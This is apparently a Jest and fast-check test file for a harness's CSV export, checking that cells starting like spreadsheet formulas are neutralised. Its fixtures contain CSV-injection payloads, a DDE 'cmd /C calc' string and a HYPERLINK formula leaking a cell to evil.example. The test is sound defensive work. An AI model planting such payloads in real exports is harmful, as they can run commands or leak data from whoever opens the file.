import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { writeCsvExport } from '../../../harness/log/exports';
import { csvCell, csvRecord } from '../../../harness/text/csv-cell';
import { makeEntry, makeTempDir, parseCsv } from '../log/fixtures';

/** What Excel and LibreOffice take as the start of a formula (OWASP CSV injection), ASCII and fullwidth. */
const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/** The value a spreadsheet reads from one encoded cell: RFC 4180 quotes undone. */
function read(cell: string): string {
  return cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
}

const temp = makeTempDir();
afterAll(() => temp.remove());

describe('csvCell', () => {
  it.each([
    ['=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', '"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")"'],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', '"\'\r=1+1"'],
    ['\uff1d1+1', "'\uff1d1+1"],
    ['-1', "'-1"],
  ])('neutralises %p', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves ordinary text and text with a trigger inside it alone', () => {
    expect(csvCell('adele@contoso.com')).toBe('adele@contoso.com');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell("O'Brien")).toBe("O'Brien");
  });

  it("writes the harness's own numbers as numbers, negative ones included", () => {
    expect(csvCell(250)).toBe('250');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(Number.NEGATIVE_INFINITY)).toBe("'-Infinity");
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
  });

  it('never lets a cell start like a formula, and keeps the value after the prefix (property)', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.oneof(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', "'", '\uff1d'), fc.string({ maxLength: 2 })), maxLength: 30 }),
        (text) => {
          const value = read(csvCell(text));
          expect(value).not.toMatch(FORMULA_START);
          expect(value === text || value === `'${text}`).toBe(true);
          // One record, one cell: the cell parses back whole.
          expect(parseCsv(csvRecord([text, 'next']))).toEqual([[value, 'next']]);
        },
      ),
      { numRuns: 1000 },
    );
  });
});

describe('the portal CSV download with target text', () => {
  it('neutralises ids, names, error details, step details and attribute values in all three files', async () => {
    const entry = makeEntry({
      id: '=act',
      at: '2026-03-24T10:00:00Z',
      action: 'create',
      status: 'failure',
      name: '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
      sourceId: 'src-1',
      targetId: "=cmd|' /C calc'!A0",
      cycleId: 'cycle-1',
      changeId: '+change',
      error: { errorCode: 'SystemForCrossDomainIdentityManagementBadRequest', reason: '@SUM(1+1)*cmd|" /C calc"!A0', additionalDetails: '', errorCategory: 'nonServiceFailure', recommendedAction: '-2+3' },
      steps: [{ name: 'EntryExportAdd', provisioningStepType: 'export', status: 'failure', description: '\t=1+1', details: { detail: '=1' } }],
      modified: [{ displayName: '-attr', oldValue: '\r=2', newValue: '=3' }],
    });
    const dir = join(temp.dir, 'hostile');
    const paths = await writeCsvExport([entry], dir);
    for (const path of paths) {
      const rows = parseCsv(readFileSync(path, 'utf8'));
      expect(rows.length).toBeGreaterThan(1);
      for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
    }
    const logs = parseCsv(readFileSync(paths[0], 'utf8'));
    const header = logs[0];
    expect(logs[1][header.indexOf('Target ID')]).toBe("'=cmd|' /C calc'!A0");
    expect(logs[1][header.indexOf('Duration (ms)')]).toBe('250');
  });
});
